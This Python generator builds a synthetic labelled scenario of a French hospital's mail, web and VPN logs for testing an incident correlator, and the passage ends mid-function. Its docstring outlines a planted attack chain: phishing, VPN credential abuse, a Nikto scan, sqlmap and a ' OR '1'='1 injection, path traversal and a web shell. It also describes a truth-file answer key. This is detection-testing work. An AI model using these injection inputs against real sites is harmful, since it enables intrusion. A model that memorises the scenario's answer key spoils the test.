"""Labelled scenario "chu": one evening of a university hospital's mail, web and VPN logs.

In: an output folder, a number of log lines `events` (at least MIN_EVENTS) and a seed.
Out: the eight log files below, `truth.json` (every line the attack wrote, and the incidents a
correlator should raise), `inventory.yml` (the hospital's accounts, assets and usual country,
for `vigie replay --inventory`), `tor-exits.txt` (an anonymiser list for `--threat-list`) and a
short summary dict. Internet hosts use routable addresses (HOME_NETS, PROVIDER_NET,
SCANNER_NET) so that GeoIP and the offline country data answer.

Exactness and determinism: exactly `events` lines are written across the log files (truth.json
is not counted). The same (events, seed) gives byte-identical files: every draw comes from
random.Random instances seeded with strings derived from the seed; nothing depends on the clock,
on hash() of a str or on set order. Every file's mtime is set to the scenario's end, from which a
replay infers the year of syslog lines.

The evening: Friday 2026-11-27, 17:00-23:00 Europe/Paris (CET, UTC+1), a 9,000-staff CHU of
which a few hundred are on site or connected from home. Background lines are shared out as
web 60 % / mail 25 % / VPN 15 % (the attack's ~550 lines come on top, mostly web and mail):

  web/www-access.log            apache_combined  public site: visitors, assets, bots, noise
  web/portail-patients-iis.log  w3c              patient portal (IIS 10, UTC times, header
                                                 blocks at the start and after a restart)
  web/proxy-access.log          squid            staff outbound proxy
  mail/maillog                  postfix          gateway mx1: inbound internet mail delivered
                                                 by LMTP to the mail store, SASL submission
                                                 from webmail and VPN clients, rejects, noise
  mail/exim-mainlog             exim             internal relay: staff PCs and applications
  vpn/fortigate.log             fortigate        SSL-VPN: clinicians, IT, vendors; tunnel
                                                 events and forward-traffic logs
  vpn/asa.log                   cisco_asa        AnyConnect: on-call doctors, teleworkers
  vpn/openvpn.log               openvpn          IT administrators; internet scan noise

The attack (local times). Attacker addresses: 45.137.21.9, a rented server abroad that also
sends the look-alike domain's mail; 185.220.101.47, a Tor exit used for reconnaissance.

  18:05 phishing            2 mails from paie@chu-exemple-rh.fr (DMARC fail), "Mise à jour de
                            votre bulletin de paie", HTML attachment, 8-10 staff recipients,
                            delivered to the mail store (T1566.001)
  19:06 vpn-credential-use  AnyConnect rejections (113005) and FortiGate ssl-login-fail from
                            45.137.21.9 for phished users and a guessed account, then a tunnel
                            for one phished clinician (tunnel address 10.212.134.200), internal
                            browsing through it; tunnel down at 21:40 (T1078, T1133, T1110)
  19:41 web-scan            Nikto through the Tor exit: 80 probes, mostly 404 (T1595.002/.003)
  19:52 web-exploitation    sqlmap UNION/boolean/time-based injection on /recherche, a manual
                            ' OR '1'='1, path traversal on /download, upload of a web shell and
                            commands through it from 45.137.21.9 (T1190, T1505.003, T1059.004)
  21:18 mass-mailing        180-260 external recipients in ~12 minutes, SASL-authenticated as
                            the phished clinician from the tunnel address; bounces, Gmail rate
                            limiting and its retries until ~21:45 (T1566.001, T1078)

Every line the attack wrote is listed in its step (a Postfix message: every line of it, from
connect to removed, including its bounce notice). Background lines never use the attacker's
addresses, and the accounts the attack touches have no background VPN or SASL activity, so the
truth is exact; background still carries realistic confounders (internet scanners probing
/.env or /wp-login.php, VPN and SASL brute force, a DMARC-failing newsletter, benign CV uploads).

Expected incidents: two, linked. "account-compromise" chains phishing -> VPN credential use ->
mass mailing for the phished account (contain: disable the account, kill its VPN session, purge
the mails); "website-compromise" chains the scan and the exploitation of www (contain: isolate
the web server, remove the shell). They need different containment by different teams, so they
are separate records; they share 45.137.21.9, and each names the other in `related`: a
correlator that merges them into one campaign on that address is also right.

truth.json: {"scenario", "seed", "events", "timezone", "date", "start", "end",
  "files": {path: {"format", "family", "lines"}},
  "context": [{"id", "title", "lines"}]  (lines that are not the attack's but that a detection
      needs: the phished clinician's own tunnel from home before the attacker's, the first
      login of the impossible-travel pair),
  "attack_steps": [{"id", "title", "attack", "start", "end", "entities": {"users",
      "source_ips", "mail_addresses", "hosts"}, "indicators": {...}, "lines": [{"file", "line"}]}],
  "expected_incidents": [{"id", "title", "severity", "steps", "attack", "start", "end",
      "entities", "related"}]}
Times are ISO 8601 UTC to the second; line numbers are 1-based.
"""
from __future__ import annotations

import datetime as dt
import functools
import heapq
import itertools
import json
import math
import os
import pathlib
import random
import unicodedata
import zlib
from bisect import bisect
from dataclasses import dataclass
from operator import itemgetter
from typing import Any, Callable, Iterable, Sequence
from zoneinfo import ZoneInfo

DATE = dt.date(2026, 11, 27)
TIMEZONE = "Europe/Paris"
MIN_EVENTS = 2_000
STAFF_COUNT = 9_000
DOMAIN = "chu-exemple.fr"
WWW_HOST = f"www.{DOMAIN}"
PORTAL_HOST = f"portail-patients.{DOMAIN}"

ATTACKER_SERVER = "45.137.21.9"
TOR_EXIT = "185.220.101.47"
ATTACKER_TUNNEL_IP = "10.212.134.200"
LOOKALIKE_DOMAIN = "chu-exemple-rh.fr"
# Internet addresses of the background (routable, so that GeoIP and the offline country data
# answer): French residential blocks for visitors, homes and vendors (RIR country FR), the
# mail providers' and crawlers' servers, and internet scanners abroad (RIR country US).
HOME_NETS = ("90.118.42", "78.201.64")
PROVIDER_NET = "193.252.22"
SCANNER_NET = "162.142.125"
# Anonymiser list written beside the logs (tor-exits.txt): Tor exit operators' blocks.
TOR_EXIT_NETS = ("185.220.100.0/22", "192.42.116.0/22", "199.249.230.0/24", "171.25.193.0/24",
                 "109.70.100.0/24", "23.129.64.0/24")
VICTIM_OWN_SESSION = "victim-own-session"

_TZ = ZoneInfo(TIMEZONE)
_SECOND = 1_000
_MINUTE = 60_000
_HOUR = 3_600_000


def _at(hour: int, minute: int, second: int = 0) -> int:
    """Epoch milliseconds of a local wall-clock time on DATE."""
    return int(dt.datetime.combine(DATE, dt.time(hour, minute, second), _TZ).timestamp()) * 1000


START_MS = _at(17, 0)
END_MS = _at(23, 0)
SCENARIO_START = dt.datetime.fromtimestamp(START_MS // 1000, dt.timezone.utc)
SCENARIO_END = dt.datetime.fromtimestamp(END_MS // 1000, dt.timezone.utc)


@dataclass(frozen=True)
class LogFile:
    """One generated log file: where, which format and family, its share of background lines."""

    path: str
    format: str
    family: str
    share: float


FILES: tuple[LogFile, ...] = (
    LogFile("web/www-access.log", "apache_combined", "web", 0.60 * 0.60),
    LogFile("web/portail-patients-iis.log", "w3c", "web", 0.60 * 0.22),
    LogFile("web/proxy-access.log", "squid", "web", 0.60 * 0.18),
    LogFile("mail/maillog", "postfix", "mail", 0.25 * 0.70),
    LogFile("mail/exim-mainlog", "exim", "mail", 0.25 * 0.30),
    LogFile("vpn/fortigate.log", "fortigate", "vpn", 0.15 * 0.55),
    LogFile("vpn/asa.log", "cisco_asa", "vpn", 0.15 * 0.35),
    LogFile("vpn/openvpn.log", "openvpn", "vpn", 0.15 * 0.10),
)

# A log line: (epoch ms, text, attack step id or None for background).
Record = tuple[int, str, "str | None"]

# ---------------------------------------------------------------------------------------------
# Time formats (cached per second: a few thousand distinct seconds serve 200,000 lines)
# ---------------------------------------------------------------------------------------------

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


@functools.lru_cache(maxsize=None)
def _wall(sec: int) -> tuple[dt.datetime, str]:
    """Local wall-clock time of an epoch second, with its UTC offset as '+0100'."""
    local = dt.datetime.fromtimestamp(sec, _TZ)
    minutes = int(local.utcoffset().total_seconds()) // 60
    sign = "+" if minutes >= 0 else "-"
    return local, f"{sign}{abs(minutes) // 60:02d}{abs(minutes) % 60:02d}"


@functools.lru_cache(maxsize=None)
def _syslog_time(sec: int) -> str:
    """'Nov 27 19:02:11' (local, no year)."""
    d, _ = _wall(sec)
    return f"{_MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S}"


@functools.lru_cache(maxsize=None)
def _apache_time(sec: int) -> str:
    """'27/Nov/2026:19:02:11 +0100'."""
    d, offset = _wall(sec)
    return f"{d.day:02d}/{_MONTHS[d.month - 1]}/{d.year}:{d:%H:%M:%S} {offset}"


@functools.lru_cache(maxsize=None)
def _local_time(sec: int) -> str:
    """'2026-11-27 19:02:11' (local, no zone: Exim)."""
    return f"{_wall(sec)[0]:%Y-%m-%d %H:%M:%S}"


@functools.lru_cache(maxsize=None)
def _utc_time(sec: int) -> str:
    """'2026-11-27 18:02:11' (UTC: IIS)."""
    return f"{dt.datetime.fromtimestamp(sec, dt.timezone.utc):%Y-%m-%d %H:%M:%S}"


@functools.lru_cache(maxsize=None)
def _asa_time(sec: int) -> str:
    """'Nov 27 2026 19:02:11' (local)."""
    d, _ = _wall(sec)
    return f"{_MONTHS[d.month - 1]} {d.day:02d} {d.year} {d:%H:%M:%S}"


@functools.lru_cache(maxsize=None)
def _fortigate_time(sec: int) -> tuple[str, str]:
    """('date=2026-11-27 time=19:02:11', '+0100')."""
    d, offset = _wall(sec)
    return f"date={d:%Y-%m-%d} time={d:%H:%M:%S}", offset


def _iso(ms: int) -> str:
    """ISO 8601 UTC to the second, for truth.json."""
    return f"{dt.datetime.fromtimestamp(ms // 1000, dt.timezone.utc):%Y-%m-%dT%H:%M:%SZ}"


# ---------------------------------------------------------------------------------------------
# Randomness helpers
# ---------------------------------------------------------------------------------------------

Table = tuple[tuple[Any, ...], list[float]]


def _rng(seed: int, part: str) -> random.Random:
    """An independent generator for one part of the scenario (string seeds are stable)."""
    return random.Random(f"vigie/chu/{seed}/{part}")


def _table(pairs: Iterable[tuple[Any, float]]) -> Table:
    """(item, weight) pairs -> a table for _pick."""
    items, weights = zip(*pairs)
    return tuple(items), list(itertools.accumulate(weights))


def _pick(rng: random.Random, table: Table) -> Any:
    """A weighted random item of a table."""
    items, cumulative = table
    return items[bisect(cumulative, rng.random() * cumulative[-1])]


def _hourly(*weights: float) -> Table:
    """Relative activity for each hour from 17h to 22h."""
    return _table(zip(range(len(weights)), weights))


_PROFILE_WEB = _hourly(1.0, 1.1, 1.0, 1.05, 0.95, 0.7)
_PROFILE_PORTAL = _hourly(0.9, 1.0, 1.0, 1.0, 0.8, 0.5)
_PROFILE_OFFICE = _hourly(1.0, 0.7, 0.5, 0.45, 0.4, 0.35)
_PROFILE_MAIL = _hourly(1.0, 0.6, 0.4, 0.3, 0.25, 0.2)
_PROFILE_FLAT = _hourly(1, 1, 1, 1, 1, 1)


def _when(rng: random.Random, profile: Table) -> int:
    """A random instant of the evening (epoch ms) following an hourly profile."""
    return START_MS + _pick(rng, profile) * _HOUR + rng.randrange(_HOUR)


def _clip(records: Iterable[Record]) -> list[Record]:
    """The records that fall inside the scenario's window."""
    return [r for r in records if START_MS <= r[0] < END_MS]


def _fill(budget: int, unit: Callable[[int], list[Record]]) -> list[Record]:
    """Exactly `budget` records from repeated units; unit(limit) returns at most limit records."""
    out: list[Record] = []
    while len(out) < budget:
        out.extend(_clip(unit(budget - len(out))))
    return out


def _vary(rng: random.Random, size: int) -> int:
    """A size within 3 % of a typical size."""
    return int(size * rng.uniform(0.97, 1.03))


def _fixed_ip(name: str, net: str = PROVIDER_NET, low: int = 130, span: int = 70) -> str:
    """A stable public address for a named host (CRC32 of the name, not hash())."""
    return f"{net}.{low + zlib.crc32(name.encode()) % span}"


def _visitor_ip(rng: random.Random) -> str:
    """A residential or mobile internet address in France (see HOME_NETS)."""
    if rng.random() < 0.55:
        return f"{HOME_NETS[0]}.{rng.randint(1, 254)}"
    return f"{HOME_NETS[1]}.{rng.randint(1, 199)}"


def _noise_ip(rng: random.Random) -> str:
    """An internet scanner's address (abroad, kept apart from visitors)."""
    return f"{SCANNER_NET}.{rng.randint(200, 254)}"


# Postfix long queue ids are written in base 52: digits and letters without vowels.
_B52 = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_B64 = _B62 + "+/"


def _encode(number: int, digits: str, width: int) -> str:
    """`number` written in base len(digits) on `width` digits."""
    out = []
    for _ in range(width):
        number, rest = divmod(number, len(digits))
        out.append(digits[rest])
    return "".join(reversed(out))


def _postfix_qid(rng: random.Random, t: int, taken: set[str]) -> str:
    """A 12-character Postfix long queue id (seconds, microseconds, 'z', inode), unique."""
    while True:
        qid = (_encode(t // 1000, _B52, 6) + _encode(rng.randrange(1_000_000), _B52, 4)
               + "z" + _B52[rng.randrange(51)])
        if qid not in taken:
            taken.add(qid)
            return qid


def _exim_id(rng: random.Random, t: int, taken: set[str]) -> str:
    """An Exim message id 'tttttt-pppppp-ff' (base 62), unique."""
    while True:
        mid = (f"{_encode(t // 1000, _B62, 6)}-{_encode(rng.randint(1_000, 99_999), _B62, 6)}"
               f"-{_encode(t % 1000 * 2, _B62, 2)}")
        if mid not in taken:
            taken.add(mid)
            return mid


def _message_id(rng: random.Random, t: int, host: str) -> str:
    """An RFC 5322 message id in the usual 'timestamp.random@host' style."""
    stamp = "".join(c for c in _local_time(t // 1000) if c.isdigit())
    return f"{stamp}.{rng.getrandbits(40):010X}@{host}"


# ---------------------------------------------------------------------------------------------
# The hospital: staff, workstations, VPN accounts, patients
# ---------------------------------------------------------------------------------------------

_FIRST_NAMES = (
    "Jean", "Marie", "Pierre", "Sophie", "Nicolas", "Isabelle", "Philippe", "Nathalie", "Laurent",
    "Catherine", "Stéphane", "Sandrine", "Julien", "Céline", "Thomas", "Aurélie", "Christophe",
    "Valérie", "Sébastien", "Julie", "Frédéric", "Camille", "David", "Émilie", "Olivier", "Claire",
    "Mathieu", "Caroline", "Antoine", "Anne", "Alexandre", "Laure", "François", "Hélène",
    "Guillaume", "Élodie", "Vincent", "Audrey", "Benoît", "Virginie", "Jérôme", "Mélanie", "Romain",
    "Karine", "Maxime", "Sylvie", "Hugo", "Léa", "Lucas", "Manon", "Arnaud", "Chloé", "Yann",
    "Pauline", "Damien", "Florence", "Cédric", "Agnès", "Fabien", "Delphine", "Jean-Pierre",
    "Marie-Claude", "Jean-Luc", "Anne-Sophie", "Karim", "Nadia", "Mohamed", "Fatima", "Mehdi",
    "Samira", "Thi", "Minh", "Youssef", "Leïla", "Gaëlle", "Loïc", "Maëlle", "Killian", "Océane",
    "Baptiste",
)
_LAST_NAMES = (
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand", "Leroy",
    "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia", "David", "Bertrand", "Roux",
    "Vincent", "Fournier", "Morel", "Girard", "André", "Lefèvre", "Mercier", "Dupont", "Lambert",
    "Bonnet", "François", "Martinez", "Legrand", "Garnier", "Faure", "Rousseau", "Blanc", "Guérin",
    "Muller", "Henry", "Roussel", "Nicolas", "Perrin", "Morin", "Mathieu", "Clément", "Gauthier",
    "Dumont", "Lopez", "Fontaine", "Chevalier", "Robin", "Masson", "Sanchez", "Gérard", "Nguyen",
    "Boyer", "Denis", "Lemaire", "Duval", "Joly", "Gautier", "Roger", "Roche", "Roy", "Noël",
    "Meyer", "Lucas", "Meunier", "Jean", "Perez", "Marchand", "Dufour", "Blanchard", "Marie",
    "Barbier", "Brun", "Dumas", "Brunet", "Schmitt", "Leroux", "Colin", "Fernandez", "Pierre",
    "Renard", "Arnaud", "Rolland", "Caron", "Aubert", "Giraud", "Leclerc", "Vidal", "Bourgeois",
    "Renaud", "Lemoine", "Picard", "Gaillard", "Philippe", "Leclercq", "Lacroix", "Fabre", "Dupuis",
    "Olivier", "Rodriguez", "Da Silva", "Hubert", "Louis", "Charles", "Guillot", "Rivière",
    "Le Gall", "Guillaume", "Adam", "Rey", "Moulin", "Gonzalez", "Berger", "Lecomte", "Ménard",
    "Fleury", "Deschamps", "Carpentier", "Julien", "Benoit", "Paris", "Maillard", "Marchal",
    "Aubry", "Vasseur", "Le Roux", "Renault", "Jacquet", "Collet", "Prévost", "Poirier",
    "Charpentier", "Royer", "Huet", "Baron", "Dupuy", "Pons", "Paul", "Laine", "Carré", "Breton",
    "Rémy", "Schneider", "Perrot", "Guyot", "Barre", "Marty", "Cousin", "Benali", "Haddad",
    "Diallo", "Traoré", "Tran", "N'Diaye",
)
# (department code, as in workstation names; clinical), weight in the staff
_DEPARTMENTS = _table((
    (("URG", True), 8), (("SAMU", True), 2), (("REA", True), 5), (("CARDIO", True), 5),
    (("PNEUMO", True), 3), (("NEURO", True), 3), (("PED", True), 4), (("MAT", True), 4),
    (("ONCO", True), 4), (("CHIR", True), 7), (("BLOC", True), 5), (("ANES", True), 3),
    (("RADIO", True), 4), (("LABO", True), 4), (("PHARMA", True), 2), (("GERIA", True), 4),
    (("PSY", True), 4), (("MI", True), 3), (("ADM", False), 3), (("RH", False), 2),
    (("FIN", False), 2), (("DIR", False), 1), (("DSI", False), 2), (("TECH", False), 3),
    (("BIOMED", False), 1), (("LOG", False), 3), (("QUAL", False), 1),
))
_VENDORS = ("philips", "siemens-hc", "ge-hc", "dedalus", "maincare", "stago", "getinge", "draeger")


@dataclass(frozen=True)
class Person:
    """A member of staff."""

    login: str
    email: str
    department: str  # code: URG, CARDIO, DSI ...
    clinical: bool


@dataclass(frozen=True)
class Workstation:
    """A member of staff on site this evening, at a PC."""

    person: Person
    ip: str
    host: str


@dataclass(frozen=True)
class VpnAccount:
    """A remote-access account: login, VPN group, the home (or vendor) address it uses."""

    login: str
    group: str
    home_ip: str
    person: Person | None


@dataclass(frozen=True)
class World:
    """Who exists and who is around this evening."""

    staff: tuple[Person, ...]
    on_site: tuple[Workstation, ...]
    fortigate: tuple[VpnAccount, ...]
    asa: tuple[VpnAccount, ...]
    openvpn: tuple[VpnAccount, ...]
    patients: tuple[str, ...]


def _ascii(text: str) -> str:
    """Lower-case ASCII form of a name: accents dropped, spaces to hyphens, apostrophes out."""
    folded = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")
    return folded.lower().replace(" ", "-").replace("'", "")


def _unique(base: str, seen: dict[str, int]) -> str:
    """`base`, or `base` with a number when it was already given out."""
    seen[base] = seen.get(base, 0) + 1
    return base if seen[base] == 1 else f"{base}{seen[base]}"


def _people(rng: random.Random, count: int) -> tuple[Person, ...]:
    """`count` staff with unique e-mail addresses (first.last) and logins (initials + last)."""
    emails: dict[str, int] = {}
    logins: dict[str, int] = {}
    people = []
    for _ in range(count):
        first, last = rng.choice(_FIRST_NAMES), rng.choice(_LAST_NAMES)
        department, clinical = _pick(rng, _DEPARTMENTS)
        initials = "".join(part[0] for part in _ascii(first).split("-"))
        login = _unique((initials + _ascii(last).replace("-", ""))[:20], logins)
        email = f"{_unique(f'{_ascii(first)}.{_ascii(last)}', emails)}@{DOMAIN}"
        people.append(Person(login, email, department, clinical))
    return tuple(people)


def _personal_address(rng: random.Random, domain: str) -> str:
    """A personal address at a consumer provider."""
    first, last = _ascii(rng.choice(_FIRST_NAMES)), _ascii(rng.choice(_LAST_NAMES))
    suffix = str(rng.randint(1, 99)) if rng.random() < 0.4 else ""
    return f"{first}.{last}{suffix}@{domain}"


def _world(rng: random.Random) -> World:
    """The hospital's staff, this evening's on-site and remote people, and portal patients."""
    staff = _people(rng, STAFF_COUNT)
    clinical = [p for p in staff if p.clinical]
    office = [p for p in staff if not p.clinical and p.department != "DSI"]
    it = [p for p in staff if p.department == "DSI"]
    present = rng.sample(clinical, 330) + rng.sample(office, 50) + rng.sample(it, 12)
    spots = rng.sample(range(60 * 240), len(present))
    on_site = tuple(
        Workstation(p, f"10.20.{1 + s // 240}.{10 + s % 240}",
                    f"PC-{p.department}-{rng.randrange(1, 3000):04d}")
        for p, s in zip(present, spots))
    here = {w.person.login for w in on_site}
    homes = iter(f"{HOME_NETS[0]}.{n}" for n in rng.sample(range(1, 255), 177))
    doctors = rng.sample([p for p in clinical if p.login not in here], 110)
    admins = rng.sample([p for p in it if p.login not in here], 27)
    teleworkers = rng.sample([p for p in office if p.login not in here], 40)
    fortigate = (
        [VpnAccount(p.login, "SSLVPN-Medecins", next(homes), p) for p in doctors[:70]]
        + [VpnAccount(p.login, "SSLVPN-DSI", next(homes), p) for p in admins[:12]]
        + [VpnAccount(f"ext-{v}", "SSLVPN-Prestataires", f"{HOME_NETS[1]}.{n}", None)
           for v, n in zip(_VENDORS, rng.sample(range(1, 200), len(_VENDORS)))])
    asa = ([VpnAccount(p.login, "GP-Astreinte", next(homes), p) for p in doctors[70:]]
           + [VpnAccount(p.login, "GP-Teletravail", next(homes), p) for p in teleworkers])
    openvpn = [VpnAccount(p.login, "it-admins", next(homes), p) for p in admins[12:]]
    providers = ("gmail.com", "orange.fr", "free.fr", "hotmail.fr", "laposte.net", "yahoo.fr",
                 "sfr.fr", "wanadoo.fr", "outlook.fr", "icloud.com")
    patients = tuple(_personal_address(rng, rng.choice(providers)) for _ in range(3_000))
    return World(staff, on_site, tuple(fortigate), tuple(asa), tuple(openvpn), patients)


# ---------------------------------------------------------------------------------------------
# Mail: correspondents, Postfix messages, Exim messages
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class MailDomain:
    """An outside mail domain: how its mail reaches mx1, where mx1 delivers to it."""

    name: str
    kind: str  # people (personal mailboxes), org (institutions, suppliers), bulk (mailings)
    out_host: str
    out_ip: str
    mx_host: str
    mx_ip: str
    dkim: bool
    dmarc: str  # what opendmarc finds for its mail: pass | none | fail
    weight: float  # share of inbound mail


def _domain(name: str, kind: str, out_host: str, mx_host: str, dkim: bool, dmarc: str,
            weight: float, mx_ip: str = "") -> MailDomain:
    """A MailDomain with stable addresses for its hosts."""
    return MailDomain(name, kind, out_host, _fixed_ip(out_host, low=1, span=120), mx_host,
                      mx_ip or _fixed_ip(mx_host, low=1, span=120), dkim, dmarc, weight)


_MAIL_DOMAINS = (
    _domain("gmail.com", "people", "mail-ed1-f54.google.com", "gmail-smtp-in.l.google.com",
            True, "pass", 10, mx_ip="142.250.0.27"),
    _domain("orange.fr", "people", "smtp-out.orange.fr", "smtp-in.orange.fr", True, "pass", 6),
    _domain("wanadoo.fr", "people", "smtp-out.orange.fr", "smtp-in.orange.fr", True, "pass", 2),
    _domain("free.fr", "people", "smtp2-g21.free.fr", "mx1.free.fr", True, "none", 3),
    _domain("hotmail.fr", "people", "mail-am6eur05on2081.outbound.protection.outlook.com",
            "hotmail-com.olc.protection.outlook.com", True, "pass", 3),
    _domain("outlook.fr", "people", "mail-db8eur05on2100.outbound.protection.outlook.com",
            "hotmail-com.olc.protection.outlook.com", True, "pass", 2),
    _domain("laposte.net", "people", "smtp-out.laposte.net", "mx.laposte.net", True, "pass", 2),
    _domain("yahoo.fr", "people", "sonic310-21.consmr.mail.ir2.yahoo.com",
            "mx-eu.mail.am0.yahoodns.net", True, "pass", 1),
    _domain("sfr.fr", "people", "smtp-out.sfr.fr", "mx.sfr.fr", True, "none", 1),
    _domain("aphp.fr", "org", "smtp-out1.aphp.fr", "mx1.aphp.fr", True, "pass", 4),
    _domain("chu-voisin.fr", "org", "relais.chu-voisin.fr", "mx.chu-voisin.fr", True, "pass", 5),
    _domain("univ-exemple.fr", "org", "smtp.univ-exemple.fr", "mx.univ-exemple.fr",
            True, "pass", 4),
    _domain("ars.sante.fr", "org", "smtp.ars.sante.fr", "mx.ars.sante.fr", True, "pass", 2),
    _domain("labo-bioexemple.fr", "org", "mail.labo-bioexemple.fr", "mail.labo-bioexemple.fr",
            False, "none", 3),
    _domain("medifourniture.fr", "org", "mail.medifourniture.fr", "mx.medifourniture.fr",
            True, "pass", 2),
    _domain("has-sante.fr", "bulk", "mta1.has-sante.fr", "mx.has-sante.fr", True, "pass", 2),
    _domain("ameli.fr", "bulk", "smtp.ameli.fr", "mx.ameli.fr", True, "pass", 1.5),
    _domain("doctolib.fr", "bulk", "mail-out.doctolib.fr", "mx.doctolib.fr", True, "pass", 3),
    _domain("mutuelle-exemple.fr", "bulk", "news.mutuelle-exemple.fr", "mx.mutuelle-exemple.fr",
            False, "none", 1),
    _domain("lettre-medicale-exemple.com", "bulk", "mta.lettre-medicale-exemple.com",
            "mx.lettre-medicale-exemple.com", True, "pass", 1.5),
    _domain("exemple-livraison.fr", "bulk", "smtp.exemple-livraison.fr",
            "mx.exemple-livraison.fr", False, "fail", 0.5),
)
_INBOUND_DOMAINS = _table((d, d.weight) for d in _MAIL_DOMAINS)
_OUTBOUND_DOMAINS = _table((d, 2 if d.kind == "org" else 1)
                           for d in _MAIL_DOMAINS if d.kind != "bulk")
_MX = {d.name: (d.mx_host, d.mx_ip) for d in _MAIL_DOMAINS}

_SUBJECTS = {
    "people": ("Rendez-vous de contrôle", "Question sur mon dossier", "Demande de compte rendu",
               "Attestation de présence", "Merci pour votre accueil", "RE: Dîner samedi",
               "Photos", "Demande de certificat"),
    "org": ("Compte rendu de consultation", "Demande d'avis - transfert patient",
            "Résultats d'analyses", "Invitation : réunion de coordination territoriale",
            "Facture F2026-11-{n}", "Bon de commande n° {n}", "Convention de stage",
            "RE: Astreinte du week-end", "TR: Protocole de soins mis à jour",
            "Staff RCP de mardi"),
    "bulk": ("Lettre d'information - novembre 2026", "Votre colis est en cours de livraison",
             "Rappel de votre rendez-vous", "Votre attestation est disponible",
             "Alerte sanitaire : épidémie de grippe", "Webinaire : IA et imagerie médicale"),
    "outbound": ("RE: Demande d'avis", "Compte rendu d'hospitalisation",
                 "Dossier de transfert", "RE: Convention de stage", "Planning de la réunion",
                 "TR: Résultats", "Demande de rendez-vous", "RE: Facture F2026-10-{n}"),
    "internal": ("Compte rendu", "RE: Planning de la semaine", "Transmissions de l'équipe de nuit",
                 "TR: Protocole mis à jour", "Réunion de service jeudi", "Demande de congés",
                 "Absence demain", "Point sur les lits disponibles", "Commande de matériel",
                 "RE: Garde du 24 décembre"),
}
_ATTACHMENTS = {
    "people": ("photo.jpg", "IMG_{n}.jpeg", "attestation.pdf", "scan.pdf"),
    "org": ("compte_rendu.pdf", "Facture_F2026-11-{n}.pdf", "bon_de_commande_{n}.pdf",
            "protocole_v3.docx", "planning_decembre.xlsx", "invitation.ics",
            "convention_stage.pdf"),
    "bulk": ("lettre_information.pdf",),
    "outbound": ("compte_rendu.pdf", "courrier.docx", "ordonnance.pdf", "tableau.xlsx"),
}
_ATTACHMENT_RATE = {"people": 0.2, "org": 0.45, "bulk": 0.05, "outbound": 0.35}
_LOCAL_PARTS = {"org": ("secretariat", "contact", "accueil"),
                "bulk": ("noreply", "newsletter", "ne-pas-repondre", "info")}


def _fill_in(rng: random.Random, template: str) -> str:
    """A subject or file name with its '{n}' number drawn."""
    return template.replace("{n}", str(rng.randint(1000, 9999)))


def _outside_sender(rng: random.Random, domain: MailDomain) -> str:
    """A plausible sender address at an outside domain."""
    if domain.kind == "people" or (domain.kind == "org" and rng.random() < 0.7):
        return _personal_address(rng, domain.name)
    return f"{rng.choice(_LOCAL_PARTS[domain.kind])}@{domain.name}"


@dataclass(frozen=True)
class Mail:
    """One message as mx1 sees it on one SMTP connection."""

    client_host: str
    client_ip: str
    helo: str
    sender: str
    recipients: tuple[str, ...]
    subject: str
    attachments: tuple[str, ...]
    message_id: str
    size: int
    dkim: str  # what opendkim logs
    dmarc: str = ""  # what opendmarc logs ("domain result"), inbound mail only
    sasl_user: str = ""


_QMGR_PID = 1189
_CLEANUP_PIDS = (2204, 2217, 3051)
_LMTP_PIDS = (2230, 2231, 2298)
_SMTP_PIDS = (2240, 2241, 2242, 2307, 2311)
_MAILSTORE = "mailstore.chu.local[10.10.0.25]:24"
_WEBMAIL = ("webmail.chu.local", "10.10.0.30")
_OUR_DKIM = f"DKIM-Signature field added (s=mx2026, d={DOMAIN})"
_GMAIL_RATE_LIMIT = (
    "421-4.7.28 Gmail has detected an unusual rate of unsolicited mail originating from your "
    "IP address. To protect our users from spam, mail sent from your IP address has been "
    "temporarily rate limited. - gsmtp (in reply to end of DATA command)")


def _pf(t: int, program: str, pid: int, text: str, tag: str | None) -> Record:
    """A syslog line written by mx1."""
    return t, f"{_syslog_time(t // 1000)} mx1 {program}[{pid}]: {text}", tag


def _seconds(value: float) -> str:
    """A delay as Postfix prints it: two significant digits below 10 s, whole seconds above."""
    return f"{value:.2g}" if value < 10 else str(round(value))


def _delays(rng: random.Random, waited: float = 0.0) -> str:
    """'delay=..., delays=a/b/c/d' for one delivery attempt."""
    parts = (rng.uniform(0.01, 0.3), waited + rng.choice((0, 0, 0.01)), rng.uniform(0.01, 0.4),
             rng.uniform(0.05, 1.2))
    return f"delay={_seconds(sum(parts))}, delays={'/'.join(_seconds(p) for p in parts)}"


def _accepted(rng: random.Random, t: int, mx_host: str) -> str:
    """The 250 reply of a receiving server, in its own style."""
    if "google" in mx_host:
        return (f"250 2.0.0 OK  {t // 1000} {rng.getrandbits(48):012x}si"
                f"{rng.randint(100_000, 999_999)}.{rng.randint(10, 999)} - gsmtp")
    if "outlook" in mx_host:
        return "250 2.6.0 Queued mail for delivery"
    return f"250 2.0.0 Ok: queued as {rng.getrandbits(40):010X}"


def _delivery(rng: random.Random, t: int, qid: str, rcpt: str, fate: str,
              tag: str | None) -> list[Record]:
    """The delivery lines for one recipient. fate: sent | bounced | deferred (then sent on
    retry) | stuck (deferred twice: the message stays queued)."""
    domain = rcpt.rpartition("@")[2]
    if domain == DOMAIN:
        saved = "".join(rng.choices(_B64, k=22))
        return [_pf(t, "postfix/lmtp", rng.choice(_LMTP_PIDS),
                    f"{qid}: to=<{rcpt}>, relay={_MAILSTORE}, {_delays(rng)}, dsn=2.0.0, "
                    f"status=sent (250 2.0.0 <{rcpt}> {saved} Saved)", tag)]
    mx_host, mx_ip = _MX.get(domain, (f"mx.{domain}", _fixed_ip(domain, low=1, span=120)))
    relay = f"{mx_host}[{mx_ip}]:25"
    head = f"{qid}: to=<{rcpt}>, relay={relay}"
    pid = rng.choice(_SMTP_PIDS)
    if fate == "sent":
        return [_pf(t, "postfix/smtp", pid, f"{head}, {_delays(rng)}, dsn=2.0.0, "
                    f"status=sent ({_accepted(rng, t, mx_host)})", tag)]
    if fate == "bounced":
